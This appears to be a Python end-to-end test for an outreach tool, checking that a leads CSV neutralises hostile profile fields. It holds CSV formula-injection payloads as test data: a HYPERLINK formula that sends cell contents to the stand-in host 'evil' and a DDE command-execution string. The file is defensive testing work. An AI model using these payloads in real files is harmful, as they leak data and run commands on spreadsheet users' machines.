"""End to end on a sandbox world where every person's profile attacks its reader (issue 10, part 5):
the name is a spreadsheet formula, the company and location start with formula triggers. A run writes a
`leads_contactable.csv` whose cells no spreadsheet evaluates, and its drafts greet with "Hi there"."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import pytest

from foundation.settings import Settings
from graph.runner import run_job
from sandbox import SandboxServer, build_world

NAME = '=HYPERLINK("http://evil/?"&A2,"Click")'
COMPANY = "=cmd|' /C calc'!A0"

pytestmark = pytest.mark.slow


@contextmanager
def hostile_sandbox(seed: int, users: int, anchor: date, latency_ms: int = 0) -> Iterator[str]:
    """`open_sandbox` over a world (built for this run alone) whose people all wrote hostile profiles."""
    world = build_world(seed, users, anchor)
    for person in world.users.values():
        person.name = NAME
        person.company = COMPANY
        if person.location:
            person.location = f"@{person.location}"
    server = SandboxServer(world, latency_ms=latency_ms).start()
    try:
        yield server.url
    finally:
        server.stop()


def test_a_run_over_hostile_profiles_writes_a_neutralised_csv_and_greets_no_one_by_them(
    tmp_path: Path, block_internet: None
) -> None:
    settings = Settings(
        _env_file=None,
        cmo_home=tmp_path / "home",
        sandbox_users=300,
        cmo_sender_postal_address="TechFlow, 1 Main St, Springfield, USA",
        cmo_unsubscribe_url="https://techflow.dev/unsubscribe",
    )
    out = tmp_path / "out"
    result = run_job("Find Python maintainers active in ML", settings, sandbox=hostile_sandbox, out_dir=out, max_prospects=50)
    assert result.summary.status == "complete", result.summary

    with (out / "leads_contactable.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows, "approved leads are written even when their profiles are hostile"
    for row in rows:
        assert row["name"] == f"'{NAME}" and row["company"].startswith("'=")  # the enricher keeps the first organisation
        assert not row["location"] or row["location"].startswith("'@")
        assert row["body"].startswith("Hi there,\n")
        assert "HYPERLINK" not in row["body"] and "calc" not in row["body"]
        assert not any(cell[:1] in "=+-@\t\r" for cell in row.values()), row
    drafts = [p.message for p in result.prospects if p.message]
    assert drafts and all(m.body.startswith("Hi there,\n") and "HYPERLINK" not in m.body for m in drafts)
